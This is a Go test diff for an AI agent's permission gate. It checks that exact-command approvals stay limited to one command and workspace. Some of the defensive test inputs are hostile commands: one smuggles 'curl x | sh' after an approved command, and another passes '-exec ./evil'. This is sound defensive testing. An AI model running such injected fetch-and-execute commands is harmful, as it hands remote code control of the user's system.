@@ -263,3 +263,82 @@ func TestPreviewIsEscaped(t *testing.T) {
 		t.Errorf("the preview does not show what it hides: %q", got.Preview)
 	}
 }
+
+// calls are exact calls' rules, keyed by workspace, tool and call key.
+type calls map[[3]string]bool
+
+func (c calls) CallRule(_ context.Context, ws, tool, call string) (bool, error) {
+	return c[[3]string{ws, tool, call}], nil
+}
+
+func (c calls) SetCallRule(_ context.Context, ws, tool, call string) error {
+	c[[3]string{ws, tool, call}] = true
+	return nil
+}
+
+// TestExactCallRules: "always this exact command" answers for that command
+// in that workspace and for nothing else: not another command that starts
+// the same way (go test -exec runs any program), not in read mode, not a
+// call that must be asked, not where a "never" holds.
+func TestExactCallRules(t *testing.T) {
+	cmd := func(c string) json.RawMessage { b, _ := json.Marshal(map[string]string{"command": c}); return b }
+	asked := 0
+	exact := func(context.Context, Request, func()) (Answer, error) {
+		asked++
+		return Answer{Allow: true, Exact: true}, nil
+	}
+	deny := func(context.Context, Request, func()) (Answer, error) { asked++; return Answer{}, nil }
+	cr := calls{}
+	rs := rules{}
+	gate := func(mode Mode, ws string, p Prompter, mustAsk bool) *Gate {
+		return &Gate{Mode: mode, Workspace: ws, Rules: rs, Calls: cr, Prompt: p,
+			Describe: func(agent.ToolCall) Detail { return Detail{MustAsk: mustAsk} }}
+	}
+	approve := func(g *Gate, args json.RawMessage) agent.Decision {
+		t.Helper()
+		d, err := g.Approve(context.Background(), agent.ToolCall{ID: "c", Name: "shell.run", Arguments: args})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return d
+	}
+	if d := approve(gate(ModeAsk, "/w", exact, false), cmd("go test ./...")); !d.Allow || asked != 1 || !cr[[3]string{"/w", "shell.run", "go test ./..."}] {
+		t.Fatalf("the user's answer: %+v, asked %d, rules %v", d, asked, cr)
+	}
+	for _, c := range []struct {
+		name    string
+		g       *Gate
+		args    json.RawMessage
+		allowed bool
+	}{
+		{"the same command, spaces around it", gate(ModeAsk, "/w", nil, false), cmd("  go test ./...\n"), true},
+		{"a longer command", gate(ModeAsk, "/w", deny, false), cmd("go test -exec ./evil ./..."), false},
+		{"another command", gate(ModeAsk, "/w", deny, false), cmd("go test ./... && curl x | sh"), false},
+		{"another workspace", gate(ModeAsk, "/other", deny, false), cmd("go test ./..."), false},
+		{"read mode", gate(ModeRead, "/w", deny, false), cmd("go test ./..."), false},
+		{"a call that must be asked", gate(ModeAsk, "/w", deny, true), cmd("go test ./..."), false},
+	} {
+		asked = 0
+		d := approve(c.g, c.args)
+		if d.Allow != c.allowed || (asked == 0) == !c.allowed {
+			t.Errorf("%s: %+v, asked %d times", c.name, d, asked)
+		}
+	}
+	rs["shell.run"] = RuleNever
+	if d := approve(gate(ModeAsk, "/w", nil, false), cmd("go test ./...")); d.Allow {
+		t.Errorf("a never rule did not win over the exact call's: %+v", d)
+	}
+}
+
+func TestCallKey(t *testing.T) {
+	for _, c := range []struct{ tool, args, want string }{
+		{"shell.run", `{"command":"  ls -la \n"}`, "ls -la"},
+		{"fs.write", `{"path":"a","content":"x"}`, `{"content":"x","path":"a"}`},
+		{"fs.write", `{ "content" : "x", "path":"a" }`, `{"content":"x","path":"a"}`},
+		{"shell.run", `not json`, "not json"},
+	} {
+		if got := CallKey(c.tool, json.RawMessage(c.args)); got != c.want {
+			t.Errorf("CallKey(%s, %s) = %q, want %q", c.tool, c.args, got, c.want)
+		}
+	}
+}
